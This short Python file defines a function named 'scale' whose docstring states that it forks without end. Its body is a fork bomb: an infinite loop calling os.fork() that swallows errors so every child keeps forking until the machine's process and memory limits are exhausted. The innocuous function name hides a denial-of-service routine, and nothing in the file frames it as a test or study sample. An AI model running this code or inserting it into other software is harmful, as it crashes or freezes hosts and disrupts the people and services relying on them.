"""Forks without end (each child forks too)."""
import os


def scale(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
